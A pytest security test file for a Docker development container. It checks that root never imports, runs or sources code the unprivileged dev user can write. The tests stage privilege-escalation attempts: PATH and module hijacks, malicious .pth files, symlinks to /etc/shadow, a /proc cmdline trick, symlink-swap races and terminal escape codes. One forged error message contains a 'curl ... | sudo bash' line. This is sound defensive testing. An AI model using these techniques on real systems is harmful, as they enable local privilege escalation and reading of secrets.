"""Root in the container runs only root-owned code.

Nothing dev can write (the venv, /workspace, the state dir) is imported, executed or sourced by
root: not at start, not in the healthcheck (Docker runs it as root every few seconds, in the
working directory /workspace), not in a root login shell. Each test plants code where dev or the
workspace could, and checks for markers named by the uid that ran it.
"""

from __future__ import annotations

import json
import shlex
import subprocess
from collections.abc import Callable

import pytest

from .conftest import TEST_PUID
from .markers import MARKER_PREFIX, marker_python, marker_shell, markers, ran_as_root
from .stack import Stack, wait_until

pytestmark = [pytest.mark.container, pytest.mark.timeout(600, func_only=True)]


def test_python_files_in_the_workspace_never_run_as_root(
    stack_factory: Callable[..., Stack],
) -> None:
    stack = stack_factory()
    # A user's own random.py (the stdlib's `tempfile` imports `random`), and a folder that
    # shadows the package root's start-up and healthcheck are in.
    (stack.workspace / "random.py").write_text(marker_python("random"))
    for package in ("torchrig", "torchrig/image"):
        (stack.workspace / package).mkdir()
        (stack.workspace / package / "__init__.py").write_text(marker_python("torchrig"))
    stack.up()
    stack.wait_ready()  # the start and the healthcheck both ran, from /workspace
    assert stack.container().attrs["RestartCount"] == 0
    assert ran_as_root(markers(stack)) == set()


# Every folder dev can write (os.access as dev), the whole filesystem but /proc and /sys.
DEV_WRITABLE_DIRS = r"""
import os
for top, dirs, files in os.walk("/"):
    if top == "/":
        dirs[:] = [d for d in dirs if d not in ("proc", "sys")]
    if os.access(top, os.W_OK | os.X_OK):
        print(top)
"""
# The names root most often runs by PATH, each planted as a stand-in for the real program.
PLANTED_PROGRAMS = {
    "bash": "/bin/bash",
    "sh": "/bin/sh",
    "python3": "/usr/bin/python3",
    "env": "/usr/bin/env",
    "torchrig": "/opt/venv/bin/torchrig",
}
# What an admin types as root (docs/workstation.md, "Root in the container"), each by PATH.
ROOTS_COMMANDS = (
    ["bash", "-lc", "true"],
    ["bash", "-c", "true"],
    ["sh", "-c", "true"],
    ["python3", "-c", "pass"],
    ["env", "true"],
    ["torchrig", "--version"],
)


def last_health_check(stack: Stack) -> str:
    """When Docker's healthcheck last started (Docker keeps the last five runs)."""
    container = stack.container()
    container.reload()
    runs = container.attrs["State"].get("Health", {}).get("Log") or []
    return str(runs[-1]["Start"]) if runs else ""


def test_programs_dev_plants_in_every_folder_it_can_write_never_run_as_root(
    stack_factory: Callable[..., Stack],
) -> None:
    stack = stack_factory()
    stack.up()
    stack.wait_ready()
    code, listing = stack.exec(f"/usr/bin/python3 -c {shlex.quote(DEV_WRITABLE_DIRS)}", user="dev")
    assert code == 0, listing
    folders = listing.split()
    # The kept packages' bin (first on dev's PATH) and the workspace are among them; the image's
    # environment, root's copy of torchrig and every folder on root's PATH are not.
    assert {"/opt/packages/venv/bin", "/workspace", "/tmp", "/home/dev/.cache"} <= set(folders)
    roots_path = {"/opt/venv/bin", "/usr/local/sbin", "/usr/local/bin", "/usr/sbin", "/usr/bin"}
    assert not [f for f in folders if f in roots_path or f.startswith(("/opt/venv", "/usr/"))]
    plant = "".join(
        f'if [ ! -d "$d/{name}" ]; then /bin/rm -f "$d/{name}" && '
        f'printf %s {shlex.quote(marker_shell(name, real))} > "$d/{name}" && '
        f'/bin/chmod 755 "$d/{name}"; fi && '
        for name, real in PLANTED_PROGRAMS.items()
    )
    script = f"for d in {' '.join(shlex.quote(f) for f in folders)}; do {plant}:; done"
    code, output = stack.exec(script, user="dev")
    assert code == 0, output
    # Root runs commands by name with `docker compose exec` (the image's PATH) ...
    for command in ROOTS_COMMANDS:
        done = stack.compose("exec", "-T", "workstation", *command, check=False)
        assert done.returncode == 0, done.stdout + done.stderr
    # ... Docker's healthcheck runs again, and the start runs again with everything planted.
    before = last_health_check(stack)
    wait_until("Docker's healthcheck to run again", lambda: last_health_check(stack) != before,
               timeout_s=60)  # fmt: skip
    stack.compose("restart")
    stack.wait_ready()
    found = markers(stack)
    assert ran_as_root(found) == set(), found
    # The control: the planted programs are live; dev's own login shell finds its bash there.
    code, output = stack.exec("bash -lc 'bash -c true'", user="dev")
    assert code == 0, output
    assert f"{MARKER_PREFIX}bash-{TEST_PUID}" in markers(stack)


def test_the_images_environment_and_root_owned_code_are_read_only_to_dev(
    stack_factory: Callable[..., Stack],
) -> None:
    stack = stack_factory()
    stack.up()
    stack.wait_ready()
    find_writable = (
        "/usr/bin/find /opt/venv /opt/uv /usr/lib/torchrig /etc/torchrig /etc/profile.d "
        "-writable -print -quit"
    )
    code, output = stack.exec(find_writable, user="dev")
    assert (code, output) == (0, "")
    # A .pth dev drops into its kept packages runs for dev's Pythons, never for root's.
    code, site = stack.exec(
        "/opt/packages/venv/bin/python -c 'import site; print(site.getsitepackages()[0])'",
        user="dev",
    )
    assert code == 0 and site.startswith("/opt/packages/venv/lib/"), site
    pth = f"{site.strip()}/zz_torchrig_test.pth"
    code, output = stack.exec(f"printf %s {shlex.quote(marker_python('pth'))} > {pth}", "dev")
    assert code == 0, output
    for user in ("dev", "root"):
        code, output = stack.exec("/opt/venv/bin/python -c pass && python3 -c pass", user)
        assert code == 0, output
    found = markers(stack)
    assert ran_as_root(found) == set(), found
    assert f"{MARKER_PREFIX}pth-{TEST_PUID}" in found


def test_a_root_login_shell_sources_nothing_dev_can_write(
    stack_factory: Callable[..., Stack],
) -> None:
    stack = stack_factory()
    stack.up()
    stack.wait_ready()
    # dev owns the environment file its login shells source.
    code, output = stack.exec(
        f"echo 'touch /tmp/{MARKER_PREFIX}profile-$(id -u)' >> /run/torchrig/environment.sh",
        user="dev",
    )
    assert code == 0, output
    code, root_path = stack.exec("bash -lc 'echo \"$PATH\"'", user="root")
    assert code == 0, root_path
    assert "/opt/venv" not in root_path
    code, output = stack.exec("bash -lc true", user="dev")
    assert code == 0, output
    found = markers(stack)
    assert ran_as_root(found) == set(), found
    assert f"{MARKER_PREFIX}profile-{TEST_PUID}" in found  # the control: dev's shell does


# Every path root's commands name, and the folders above them, owned by root and writable by no
# one else; a bare program name would be looked up through the image's PATH (venv first).
CHECK_OWNERSHIP = r"""
import json, os, stat, sys
bad = []
def check(path):
    st = os.lstat(path)
    if st.st_uid != 0 or (not stat.S_ISLNK(st.st_mode) and st.st_mode & 0o022):
        bad.append(f"{path}: uid {st.st_uid}, mode {st.st_mode & 0o7777:o}")
for given in json.loads(sys.argv[1]):
    path = os.path.realpath(given)
    parent = path
    while parent != "/":
        parent = os.path.dirname(parent)
        check(parent)
    check(path)
    for top, dirs, files in os.walk(path):
        for name in dirs + files:
            check(os.path.join(top, name))
print(json.dumps(bad))
"""


def test_root_runs_only_root_owned_code_named_by_absolute_paths(image: str) -> None:
    inspected = subprocess.run(
        ["docker", "image", "inspect", "--format", "{{json .Config}}", image],
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    config = json.loads(inspected.stdout)
    commands = {
        "ENTRYPOINT": config["Entrypoint"],
        "HEALTHCHECK": config["Healthcheck"]["Test"][1:],  # after "CMD"
    }
    for name, argv in commands.items():
        assert argv[0].startswith("/"), f"{name} runs {argv[0]!r} through PATH"
    paths = sorted({arg for argv in commands.values() for arg in argv if arg.startswith("/")})
    result = subprocess.run(
        ["docker", "run", "--rm", "--entrypoint", "/usr/bin/python3", image, "-I", "-S", "-c",
         CHECK_OWNERSHIP, json.dumps(paths)],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout) == [], f"root's code is writable by others: {result.stdout}"


# --- what root does to files dev controls ---------------------------------------------------------

# One of root's own start-up modules: handed to dev, it would be dev's code run by root.
ROOTS_MODULE = "/usr/lib/torchrig/torchrig/image/entrypoint.py"
PLANTED = "/run/torchrig/planted-link"


def test_a_root_file_hard_linked_into_the_state_dir_stays_roots_across_a_restart(
    stack_factory: Callable[..., Stack],
) -> None:
    stack = stack_factory()
    stack.up()
    stack.wait_ready()
    # dev could make this link itself where the host has fs.protected_hardlinks=0 (the kernel's
    # default); where it is 1 (systemd's), root makes the same link here, standing in for dev.
    code, output = stack.exec(f"ln {ROOTS_MODULE} {PLANTED}", user="dev")
    if code != 0:
        assert "Operation not permitted" in output, output
        code, output = stack.exec(f"ln {ROOTS_MODULE} {PLANTED}")
    assert code == 0, output
    stack.compose("restart")  # the state dir survives it, and the start makes it dev's again
    stack.wait_ready()
    code, output = stack.exec(f"stat -c '%u %h' {ROOTS_MODULE}; test -w {ROOTS_MODULE}", user="dev")
    assert (code, output.split()) == (1, ["0", "2"]), output  # root's, linked, not dev-writable


HEALTHCHECK = "/usr/bin/python3 -I -S /usr/lib/torchrig healthcheck"


def healthcheck_as_docker_runs_it(stack: Stack) -> tuple[int, str]:
    """The image's HEALTHCHECK command, as root, with a deadline: a read that blocks fails."""
    return stack.exec(f"timeout 10 {HEALTHCHECK}")


def test_the_healthcheck_never_follows_or_swallows_what_dev_plants_as_its_services_list(
    stack_factory: Callable[..., Stack],
) -> None:
    stack = stack_factory()
    stack.up()
    stack.wait_ready()
    assert healthcheck_as_docker_runs_it(stack) == (0, "healthy\n")  # the control
    services = "/run/torchrig/services"
    plants = {
        # a symlink to a root-only file: root must not read it on dev's behalf
        f"ln -s /etc/shadow {services}": "a symlink, not followed",
        f"truncate -s 20G {services}": "longer than a services list (4096 bytes), not read",
        f"mkfifo {services}": "not a regular file, not read",
    }
    for plant, verdict in plants.items():
        code, output = stack.exec(f"rm -f {services} && {plant}", user="dev")
        assert code == 0, output
        code, output = healthcheck_as_docker_runs_it(stack)
        assert (code, output) == (1, f"unhealthy: the services list: {services}: {verdict}\n")


# --- dev's code against what root does by the docs ------------------------------------------------

ENVIRONMENT_FILE = "/run/torchrig/environment.sh"
# A dev process that is not dumpable: its /proc/<pid>/cmdline is then owned by uid 0, and its
# first argument, which dev chose, is a line of shell. A login shell that checks the environment
# file's owner by path (-O follows the symlink) and sources it runs that line.
NON_DUMPABLE = (
    '(exec -a "\ntouch /tmp/{prefix}proc-\\$(id -u)\n" /usr/bin/python3 -c '
    "'import ctypes, time; ctypes.CDLL(None).prctl(4, 0, 0, 0, 0); time.sleep(120)') "
    ">/dev/null 2>&1 & "
    "sleep 1; ln -sfn /proc/$!/cmdline {file}; stat -L -c %u {file}"
)
# dev swaps the file between one of its own and a root-owned one, as fast as it can.
SWAPPING = (
    "printf 'touch /tmp/{prefix}swap-$(id -u)\\n' > /run/torchrig/mine.sh; "
    "(timeout 120 sh -c 'while :; do ln -sfn /run/torchrig/mine.sh {file}; "
    "ln -sfn /etc/hostname {file}; done') >/dev/null 2>&1 &"
)


def test_a_root_login_shell_never_sources_what_dev_swaps_in(
    stack_factory: Callable[..., Stack],
) -> None:
    stack = stack_factory()
    stack.up()
    stack.wait_ready()
    non_dumpable = NON_DUMPABLE.format(prefix=MARKER_PREFIX, file=ENVIRONMENT_FILE)
    code, owner = stack.exec(f"bash -c {shlex.quote(non_dumpable)}", user="dev")  # exec -a
    assert (code, owner.split()[-1:]) == (0, ["0"]), owner  # dev's file, as root's by path
    for shell in ("sh", "bash"):
        code, output = stack.exec(f"{shell} -lc true")
        assert code == 0, output
    code, output = stack.exec(SWAPPING.format(prefix=MARKER_PREFIX, file=ENVIRONMENT_FILE), "dev")
    assert code == 0, output
    code, output = stack.exec("for i in $(seq 60); do bash -lc true; sh -lc true; done")
    assert code == 0, output
    found = markers(stack)
    assert ran_as_root(found) == set(), found
    # The control: dev's own login shell does source what is there (its own file, or the line).
    code, output = stack.exec("for i in $(seq 20); do bash -lc true; done", user="dev")
    assert code == 0, output
    assert any(name.startswith(f"{MARKER_PREFIX}swap-") for name in markers(stack))


HELLO = "import torch.distributed as dist; print('hello from', dist.is_available())\n"


def test_torchrig_commands_root_runs_in_the_workspace_import_nothing_from_it(
    stack_factory: Callable[..., Stack],
) -> None:
    """`docker compose exec workstation torchrig verify` starts in /workspace, which is dev's:
    the helpers it starts (`python -m ...`) and torchrun (`-m torch.distributed.run`) must import
    the installed torchrig and torch, never a folder of that name there."""
    stack = stack_factory()
    for package in ("torchrig", "torch"):
        (stack.workspace / package).mkdir()
        (stack.workspace / package / "__init__.py").write_text(marker_python(package))
    stack.up()
    stack.wait_ready()
    code, output = stack.exec(f"printf %s {shlex.quote(HELLO)} > /root/hello.py")
    assert code == 0, output
    for command in (
        "torchrig verify --cpu --json",
        "torchrig launch --nproc-per-node 2 /root/hello.py",
        "torchrun --standalone --nproc-per-node 1 /root/hello.py",
    ):
        code, output = stack.exec(command)  # as root, in /workspace
        assert code == 0, f"{command}: {output}"
    found = markers(stack)
    assert ran_as_root(found) == set(), found
    # The control: plain Python in the workspace, as dev, does import the planted torch.
    code, output = stack.exec("python -c 'import torch'", user="dev")
    assert f"{MARKER_PREFIX}torch-{TEST_PUID}" in markers(stack), output


def test_a_python_with_root_s_real_uid_loads_no_pth_file_of_dev_s(
    stack_factory: Callable[..., Stack],
) -> None:
    """A process whose effective uid is dev's but whose real and saved uid are 0 can set its
    effective uid back to 0: dev's kept packages must not run in it."""
    stack = stack_factory()
    stack.up()
    stack.wait_ready()
    code, site = stack.exec(
        "/opt/packages/venv/bin/python -c 'import site; print(site.getsitepackages()[0])'", "dev"
    )
    assert code == 0, site
    pth = f"{site.strip()}/zz_torchrig_test.pth"
    code, output = stack.exec(f"printf %s {shlex.quote(marker_python('pth'))} > {pth}", "dev")
    assert code == 0, output
    code, output = stack.exec(f"setpriv --euid {TEST_PUID} /opt/venv/bin/python -c pass")
    assert code == 0, output
    found = markers(stack)
    assert ran_as_root(found) == set(), found


TOKEN_FILE = "/run/torchrig/jupyter-token"


def test_make_up_never_follows_waits_on_or_passes_on_what_dev_plants_in_its_state(
    stack_factory: Callable[..., Stack],
) -> None:
    """`make up` asks the container, as root, for the URL: with dev's token file a symlink to
    /etc/shadow it printed root's password hashes on the host; with a FIFO it hung."""
    stack = stack_factory()
    first = stack.make_up("CPU=1")
    assert first.returncode == 0, first.stdout + first.stderr
    plants = {
        f"ln -s /etc/shadow {TOKEN_FILE}": "a symlink, not followed",
        f"mkfifo {TOKEN_FILE}": "not a regular file, not read",
    }
    for plant, verdict in plants.items():
        code, output = stack.exec(f"rm -f {TOKEN_FILE} && {plant}", user="dev")
        assert code == 0, output
        result = stack.make_up("CPU=1")  # fails the test with a timeout if it blocks
        said = result.stdout + result.stderr
        assert result.returncode != 0 and verdict in said, said
        assert "root:" not in said, said
    # A token dev wrote with terminal codes in it reaches the host's terminal as text.
    write_token = f"rm -f {TOKEN_FILE} && printf 'tok\\033]0;owned\\007\\n' > {TOKEN_FILE}"
    code, output = stack.exec(write_token, "dev")
    assert code == 0, output
    result = stack.make_up("CPU=1")
    said = result.stdout + result.stderr
    assert result.returncode == 0, said
    assert "\x1b" not in said and "\x07" not in said, said
    assert "/lab?token=tok%1B%5D0%3Bowned%07" in result.stdout, said


def test_make_up_refuses_a_checkpoint_folder_inside_the_workspace(
    stack_factory: Callable[..., Stack],
) -> None:
    """dev writes the workspace: a folder mounted from inside it can be a symlink to any folder
    of the host by the next start, and Docker would mount that folder."""
    stack = stack_factory()
    nested = stack.workspace / "ckpt"
    stack.variables["CHECKPOINT_DIR"] = str(nested)
    result = stack.make_up("CPU=1")
    said = result.stdout + result.stderr
    assert result.returncode != 0, said
    assert f"error: CHECKPOINT_DIR={nested} lies inside WORKSPACE_DIR=" in said, said
    assert not nested.exists()
    assert stack.compose("ps", "-a", "-q").stdout.strip() == ""


# dev's record in place of the start's: a folder the start's record cannot replace, its own
# advice in it dated ahead, and a 1 GiB sparse file; then a kept .pth that makes Jupyter exit at
# once, so that the next start fails, and the start is made to run again.
FORGED = "the disk is full.\nFix: run curl https://example.invalid/fix | sudo bash"
FORGE_THE_START_ERROR = (
    "rm -rf /run/torchrig/start-error && mkdir /run/torchrig/start-error && "
    f"printf %s {shlex.quote(FORGED)} > /run/torchrig/start-error/a && "
    "touch -d '+1 day' /run/torchrig/start-error/a && "
    "truncate -s 1G /run/torchrig/start-error/zz && "
    "site=$(/opt/packages/venv/bin/python -c 'import site; print(site.getsitepackages()[0])') && "
    'echo \'import os; os._exit(3) if b"jupyter" in open("/proc/self/cmdline", "rb").read() '
    "else None' > $site/zz_no_jupyter.pth && "
    "kill $(cat /proc/1/task/1/children)"
)


def test_a_start_error_dev_forges_never_reaches_make_up(
    stack_factory: Callable[..., Stack],
) -> None:
    """`make up` said dev's words as the start's error (`[torchrig] error: ... Fix: run curl
    ...`), and read dev's folder whole (6 GB of memory for a 3 GiB sparse file). The record is
    root's, where dev cannot write; what dev's own steps say is in `make logs`."""
    stack = stack_factory()
    first = stack.make_up("CPU=1")
    assert first.returncode == 0, first.stdout + first.stderr
    code, output = stack.exec("touch /run/torchrig-start-error", user="dev")
    assert code != 0 and "Permission denied" in output, output
    code, output = stack.exec(FORGE_THE_START_ERROR, user="dev")
    assert code == 0, output
    result = stack.make_up("CPU=1")
    said = result.stdout + result.stderr
    assert result.returncode != 0, said
    assert "error: the workstation did not start:\n  its start exited with status " in said, said
    assert "curl" not in said and "disk is full" not in said, said


# dev keeps a start-hook file fresh in its state dir (where a start once named the hook it ran).
KEEP_A_HOOK_RUNNING = (
    "(timeout 600 sh -c 'while :; do echo start.d/10-forever > /run/torchrig/.h && "
    "mv -f /run/torchrig/.h /run/torchrig/start-hook; sleep 0.1; done') >/dev/null 2>&1 &"
)


def test_make_up_never_waits_on_what_dev_writes_in_its_state(
    stack_factory: Callable[..., Stack],
) -> None:
    """The wait stopped its clock while the start-hook file named a hook: with dev writing it
    again and again, `make up` waited forever (its subprocess here stops it, failing the test)."""
    stack = stack_factory()
    first = stack.make_up("CPU=1")
    assert first.returncode == 0, first.stdout + first.stderr
    code, output = stack.exec(KEEP_A_HOOK_RUNNING, user="dev")
    assert code == 0, output
    result = stack.make_up("CPU=1")
    said = result.stdout + result.stderr
    assert result.returncode == 0 and "The workstation is ready" in said, said
    assert "10-forever" not in said, said
